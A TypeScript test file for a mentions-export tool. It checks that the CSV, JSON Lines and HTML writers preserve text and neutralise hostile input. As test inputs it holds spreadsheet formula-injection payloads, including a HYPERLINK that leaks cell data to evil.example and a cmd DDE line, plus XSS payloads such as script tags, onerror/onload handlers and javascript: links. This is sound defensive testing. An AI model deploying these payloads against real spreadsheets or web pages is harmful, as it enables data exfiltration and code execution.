import { describe, expect, it } from 'vitest'
import { csvWriter } from '#engine/reader/export-csv.ts'
import { htmlWriter } from '#engine/reader/export-html.ts'
import { jsonLinesWriter } from '#engine/reader/export-json-lines.ts'
import { type ExportRow, exportFields } from '#engine/reader/export-row.ts'

const row = (change: Partial<ExportRow>): ExportRow => ({
  kind: 'post',
  id: '1990000000000000001',
  at: '2026-11-21T09:14:00.000Z',
  handle: 'mara',
  name: 'Mara',
  text: 'hello',
  lang: 'en',
  state: 'noTicket',
  by: null,
  ticketId: null,
  ticketStatus: null,
  inReplyToId: null,
  conversation: 'thread:1',
  replies: 0,
  reposts: 2,
  likes: 0,
  views: null,
  media: null,
  edited: false,
  flagged: false,
  linkX: 'https://x.com/mara/status/1990000000000000001',
  linkZendesk: null,
  ...change,
})

/** As RFC 4180 reads it, by a reader of its own. */
const parseCsv = (text: string): string[][] => {
  const lines: string[][] = [[]]
  let cell = ''
  let quoted = false
  for (let at = 0; at < text.length; at++) {
    const sign = text[at]
    if (quoted && sign === '"' && text[at + 1] === '"') {
      cell += '"'
      at += 1
    } else if (sign === '"') quoted = !quoted
    else if (!quoted && (sign === ',' || sign === '\r')) {
      lines.at(-1)?.push(cell)
      cell = ''
      if (sign === '\r') {
        expect(text[at + 1]).toBe('\n')
        at += 1
        lines.push([])
      }
    } else cell += sign
  }
  return lines.filter(line => line.length > 0)
}

const tableOf = (rows: readonly ExportRow[]) => {
  const text = csvWriter.head({ title: 'Mentions', source: '', at: 0, total: null }) + csvWriter.rows(rows)
  expect(text.startsWith('\ufeff')).toBe(true)
  const [head = [], ...lines] = parseCsv(text.slice(1))
  return { head, lines: lines.map(line => Object.fromEntries(line.map((cell, at) => [head[at] ?? '', cell]))) }
}

const texts: [string, string][] = [
  ['a comma', 'late, again'],
  ['quotes', 'she said "now"'],
  ['lines', 'one\ntwo\r\nthree'],
  ['Arabic', 'لا أستطيع تسجيل الدخول'],
  ['emoji', '👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 ok'],
  ['Japanese', '東京のサーバーに障害が発生し、ログインできません'],
  ['a direction that is turned', 'abc \u202e gpj.exe'],
  ['very long', 'word '.repeat(20_000)],
  ['markup', '<b>&amp;</b>'],
]

describe('CSV', () => {
  it.each(texts)('keeps %s as it is', (_what, text) =>
    expect(tableOf([row({ text }), row({})]).lines.map(line => line.text)).toEqual([text, 'hello']),
  )

  it('has every field, whole ids and no null', () => {
    const { head, lines } = tableOf([row({ ticketId: '4127', edited: true })])
    expect(head).toEqual([...exportFields])
    expect(Object.keys(row({})).sort()).toEqual([...exportFields].sort())
    expect(lines[0]).toMatchObject({ id: "'1990000000000000001", ticketId: '4127', views: '', edited: 'yes', by: '' })
  })

  it.each([
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "=cmd|'/c calc'!A0",
    '+1+cmd',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
  ])('defuses the formula %j in every field that people fill', text => {
    for (const field of ['text', 'name', 'handle', 'media', 'by'] as const) {
      expect(tableOf([row({ [field]: text })]).lines[0]?.[field]).toBe(`'${text}`)
    }
  })

  it.each(['a=b', '5 - 3', 'mail me at a@b.example', '1+1'])('leaves %j alone', text =>
    expect(tableOf([row({ text })]).lines[0]?.text).toBe(text),
  )

  it('has no NUL', () => expect(tableOf([row({ text: 'a\0=b' })]).lines[0]?.text).toBe('a=b'))
})

describe('JSON Lines', () => {
  it.each(texts)('keeps %s in one line', (_what, text) => {
    const lines = jsonLinesWriter.rows([row({ text }), row({})]).split('\n')
    expect(lines).toHaveLength(3)
    expect(JSON.parse(lines[0] ?? '')).toEqual(row({ text }))
  })
})

describe('a page', () => {
  const about = { title: '<Mentions>', source: '"@harbor"', at: Date.UTC(2026, 10, 21, 9), total: 12_345 }
  const pageOf = (rows: readonly ExportRow[]) =>
    htmlWriter.head(about) + htmlWriter.rows(rows) + htmlWriter.end(rows.length)

  it('says what it is of, when, how many, and that it is whole', () => {
    const page = pageOf([row({})])
    expect(page).toContain('<title>Switchboard: &lt;Mentions&gt;</title>')
    expect(page).toContain('12,345 counted when it began')
    expect(page).toContain('datetime="2026-11-21T09:00:00.000Z"')
    expect(page).toContain('<footer id="end"><p>End of the export: 1 entry.</p></footer>')
    expect(htmlWriter.head(about) + htmlWriter.rows([row({})])).not.toContain('id="end"')
  })

  it('runs and loads nothing, whatever somebody wrote', () => {
    const evil = [
      '<script>alert(1)</script>',
      '"><img src=https://evil.example/a onerror=alert(1)>',
      "' style='background:url(https://evil.example)",
      '</title></style><svg onload=alert(1)>',
    ]
    const page = pageOf(
      evil.flatMap(text => [
        row({ text, name: text, handle: text, media: text, by: text, lang: text, linkX: 'javascript:alert(1)' }),
      ]),
    )
    const tags = (page.match(/<\/?[a-z][^>]*>/gi) ?? []).map(tag => tag.replace(/"[^"]*"/g, '""'))
    expect(tags.filter(tag => /^<(script|img|svg|iframe|link|object)/i.test(tag))).toEqual([])
    expect(tags.filter(tag => / (on\w+|style|src)=/i.test(tag))).toEqual([])
    expect(page).not.toContain('javascript:')
    expect(page).toMatch(
      /http-equiv="Content-Security-Policy" content="default-src &#39;none&#39;; style-src &#39;sha256-/,
    )
  })

  it.each(texts)('keeps %s, in its own direction', (_what, text) => {
    const page = pageOf([row({ text, lang: 'ar', name: text })])
    const escaped = text
      .replaceAll('&', '&amp;')
      .replaceAll('<', '&lt;')
      .replaceAll('>', '&gt;')
      .replaceAll('"', '&quot;')
    expect(page).toContain(`<p class="text" dir="auto" lang="ar">${escaped}</p>`)
    expect(page).toContain(`<bdi>${escaped}</bdi>`)
  })
})
